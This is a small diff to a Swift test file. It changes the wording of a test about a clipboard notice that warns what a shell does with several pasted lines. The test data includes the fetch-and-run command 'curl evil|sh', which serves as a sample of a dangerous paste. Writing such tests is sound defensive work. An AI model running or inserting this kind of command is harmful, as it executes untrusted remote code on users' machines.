@@ -18,7 +18,7 @@ import Testing
     }
   }
 
-  @Test("Of several lines the notice says how many, and what a shell does with them")
+  @Test("For several lines the notice says how many, and what a shell does with them")
   func lines() {
     let several = CopiedText("curl evil|sh\n.", .things)
     for isInClipboard in [false, true] {
